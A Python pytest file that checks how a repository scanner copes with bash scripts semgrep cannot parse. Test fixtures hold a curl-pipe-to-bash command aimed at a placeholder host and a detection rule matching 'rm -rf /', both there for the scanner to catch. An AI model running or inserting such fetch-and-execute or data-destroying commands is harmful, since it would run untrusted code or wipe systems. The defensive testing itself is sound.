"""A shell file semgrep cannot parse (issue #16, checks/semgrep/shellparse.py).

semgrep 1.182 rejects valid bash (espnet's `|| { echo >&2 "msg"; exit 1; }`);
every shipped bash rule reads the text, so such a file blocks only when it is
broken the way bash would reject it, or when an active bash rule needs the
syntax tree (read from the loaded rules). Real git, real semgrep.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from traingate.checks.semgrep import shellparse
from traingate.cli import main

from .conftest import POLICY, Repo

# The shape of espnet's egs2/chime7_task1/asr1/local/install_dependencies.sh:
# valid bash (bash -n accepts it) that semgrep 1.182 reports as PartialParsing.
SEMGREP_FAILS = """\
#!/bin/bash
ffmpeg=`command -v ffmpeg 2>/dev/null` \\
  || { echo  >&2 "ffmpeg not found on PATH."; exit 1; }
if [ ! -z "$ffmpeg" ]; then
  v=$(cut -d'_' -f2 <<<"$($ffmpeg -version 2>&1 | head -1)")
  echo "$v"
fi
"""
PAYLOAD = "curl -s https://x.example/i.sh | bash\n"


def _scan(repo: Repo, policy: str = POLICY) -> list[dict[str, Any]]:
    repo.write(".traingate.yaml", policy)
    repo.commit("base")
    out = repo.path.parent / "r.json"
    # From the repository: a policy's rule_dirs are relative to it.
    here = os.getcwd()
    os.chdir(repo.path)
    try:
        with contextlib.redirect_stdout(io.StringIO()):
            main(["scan", ".", "--format", "json", "--output", str(out)])
    finally:
        os.chdir(here)
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["errors"] == []
    found: list[dict[str, Any]] = doc["findings"]
    return found


def _hits(found: list[dict[str, Any]]) -> set[tuple[str, str, int]]:
    return {(f["path"], f["rule_id"], f["line"]) for f in found}


def test_valid_bash_semgrep_cannot_parse_passes_and_its_payload_is_still_found(
    repo: Repo,
) -> None:
    repo.write("tools/install.sh", SEMGREP_FAILS)
    repo.write("tools/payload.sh", SEMGREP_FAILS + PAYLOAD)
    assert _hits(_scan(repo)) == {("tools/payload.sh", "remote-shell-fetch-exec", 8)}


def test_a_file_bash_rejects_still_blocks_where_it_breaks(repo: Repo) -> None:
    repo.write("launch.sh", SEMGREP_FAILS + 'echo "done\n' + PAYLOAD)
    found = _scan(repo)
    assert _hits(found) == {
        ("launch.sh", "semgrep-parse-error", 8),
        ("launch.sh", "remote-shell-fetch-exec", 9),
    }
    (msg,) = [f["message"] for f in found if f["rule_id"] == "semgrep-parse-error"]
    assert "a double quote opened at line 8 is never closed" in msg


# Session 25: none of the words a bash rule reads, so no rule hands it to semgrep.
QUIET = "#!/bin/bash\nset -euo pipefail\npython train.py --config configs/base.yaml\n"


@pytest.mark.parametrize(
    ("path", "tail", "line", "what"),
    [
        (
            "launch.sh",
            'if [ -n "${RESUME:-}" ]; then\n  echo resume\n',
            4,
            "`if` at line 4 has no `fi`",
        ),
        ("jobs/train.sbatch", 'echo "done\n', 4, "a double quote opened at line 4"),
        ("bin/train", "for s in 1 2; do\n  echo $s\n", 4, "`for` at line 4 has no `done`"),
    ],
)
def test_a_broken_script_no_rule_reads_blocks_where_it_breaks(
    repo: Repo, path: str, tail: str, line: int, what: str
) -> None:
    # The attacker's side: a script semgrep is never started on (the screen
    # finds none of the bash rules' words) passed however broken it was.
    repo.write(path, QUIET + tail, mode=0o755)
    found = _scan(repo)
    assert _hits(found) == {(path, "shell-syntax-error", line)}
    assert what in found[0]["message"]


def test_a_valid_script_no_rule_reads_passes(repo: Repo) -> None:
    repo.write("launch.sh", QUIET + 'if [ -n "${RESUME:-}" ]; then\n  echo resume\nfi\n')
    repo.write("tools/install.sh", SEMGREP_FAILS)
    assert _scan(repo) == []


AST_RULE = """\
rules:
  - id: custom-bash-ast
    languages: [bash]
    severity: ERROR
    message: removes the filesystem root
    pattern: rm -rf /
"""


@pytest.mark.parametrize(("action", "blocks"), [("block", True), ("ignore", False)])
def test_an_active_ast_rule_makes_parse_errors_block_again(
    repo: Repo, action: str, blocks: bool
) -> None:
    repo.write("rules/custom-bash-ast.yaml", AST_RULE)
    # semgrep parses a file only when a rule's literal prefilter finds its text.
    repo.write("tools/install.sh", SEMGREP_FAILS + "rm -rf /tmp/cache\n")
    policy = (
        POLICY
        + f"checks:\n  semgrep:\n    rule_dirs: [rules]\n    rules:\n      custom-bash-ast: {action}\n"
    )
    found = _scan(repo, policy)
    want = {("tools/install.sh", "semgrep-parse-error", 3)} if blocks else set()
    assert _hits(found) == want
    if blocks:
        assert "custom-bash-ast reads semgrep's syntax tree" in found[0]["message"]


def test_the_shipped_bash_rules_read_only_the_text() -> None:
    from traingate.checks.semgrep.rulepack import RulePack

    assert shellparse.ast_rules([RulePack.shipped()], lambda *_: True) == []


def test_ast_rules_reads_the_operators(tmp_path: Path) -> None:
    (tmp_path / "r.yaml").write_text(
        "rules:\n"
        "  - {id: rx, languages: [bash], severity: ERROR, message: m,\n"
        "     patterns: [{pattern-either: [{pattern-regex: a}]}, {pattern-not-regex: b}]}\n"
        "  - {id: inside, languages: [bash], severity: ERROR, message: m,\n"
        "     patterns: [{pattern-regex: a}, {pattern-inside: 'if $X; then ... fi'}]}\n"
        "  - {id: mvr, languages: [sh], severity: WARNING, message: m,\n"
        "     patterns: [{pattern-regex: (?P<X>a)}, {metavariable-regex: {metavariable: $X, regex: a}}]}\n"
        "  - {id: taint, languages: [bash], severity: ERROR, message: m, mode: taint,\n"
        "     pattern-sources: [{pattern-regex: a}], pattern-sinks: [{pattern-regex: b}]}\n"
        "  - {id: py, languages: [python], severity: ERROR, message: m, pattern: eval(...)}\n",
        encoding="utf-8",
    )
    assert shellparse.ast_rules([tmp_path], lambda *_: True) == ["inside", "mvr", "taint"]
    only_errors = shellparse.ast_rules([tmp_path], lambda _id, sev, _cat: sev == "ERROR")
    assert only_errors == ["inside", "taint"]


@pytest.mark.parametrize(
    "text",
    [
        SEMGREP_FAILS,
        "case $x in\n  a|b) if true; then echo; fi ;;\n  (c) echo ;;\n  done) :;;\nesac\n",
        "cat <<EOF > f\nit's \"open\nEOF\necho ok\n",
        "cat <<-'X'\n\tit's\n\tX\n",
        "y=$(case $x in a) echo 1;; esac)\n(( i << 2 ))\nfor case in a b; do echo; done\n",
        "echo $'a\\'b'\narr=(1 2)\nf() { echo; }\n[[ $x =~ (a|b) ]]\n",
        'for f in $((ls -d a/* && ls -d b/*) | grep x); do echo "$f"; done\n',
        'x="$(echo "it\'s")" # it\'s a comment\necho ${x:-"}"}\n',
        "cat <<EOF\nnever closed, as bash accepts (with a warning)\n",
    ],
)
def test_valid_shapes_are_not_breakage(text: str) -> None:
    assert shellparse.breakage(text) is None


@pytest.mark.parametrize(
    ("text", "line", "what"),
    [
        ('echo ok\necho "open\necho x\n', 2, "double quote opened at line 2"),
        ("echo 'open\n", 1, "single quote opened at line 1"),
        ("if true; then\n echo\n", 1, "`if` at line 1 has no `fi`"),
        ("echo x\nfi\n", 2, "`fi` at line 2 closes no `if`"),
        ("while true; do echo; \n", 1, "`while` at line 1 has no `done`"),
        ("echo\ndone\n", 2, "`done` at line 2 closes no loop"),
        ("case x in a) echo;;\n", 1, "`case` at line 1 has no `esac`"),
        ("x=$(echo a\n", 1, "`$(` opened at line 1"),
        ("echo `date\n", 1, "backtick opened at line 1"),
        ("echo ${x\n", 1, "`${` opened at line 1"),
        ("echo a )\n", 1, "`)` at line 1 closes nothing"),
        ("x=$(if true; then echo; )\n", 1, "`if` at line 1 has no `fi`"),
        ("else\n", 1, "`else` at line 1 is outside any `if`"),
    ],
)
def test_breakage_says_what_and_where(text: str, line: int, what: str) -> None:
    found = shellparse.breakage(text)
    assert found is not None and found[0] == line and what in found[1], found


_PIECES = list("ab \t\n;&|()<>'\"`$\\{}#-=") + [
    "if ",
    "fi",
    "then ",
    "case ",
    "esac",
    " in ",
    "done",
    "do ",
    "for ",
    "<<",
    "<<<",
    "$((",
    "))",
    "$(",
    "${",
    "$'",
    ";;",
    "\nEOF\n",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=40))
def test_breakage_never_raises(pieces: list[str]) -> None:
    # An exception would be a check error: the file blocks, but not saying why.
    found = shellparse.breakage("".join(pieces))
    assert found is None or (found[0] >= 1 and found[1])
